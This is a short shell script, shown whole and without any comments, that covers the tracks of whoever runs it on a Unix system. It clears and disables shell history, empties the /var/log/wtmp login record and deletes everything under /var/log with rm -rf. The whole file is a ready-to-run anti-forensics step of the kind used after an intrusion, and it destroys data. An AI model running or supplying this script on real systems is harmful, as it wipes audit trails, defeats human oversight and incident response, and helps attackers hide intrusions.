#!/bin/sh
history -c
unset HISTFILE
cat /dev/null > /var/log/wtmp
rm -rf /var/log/* 
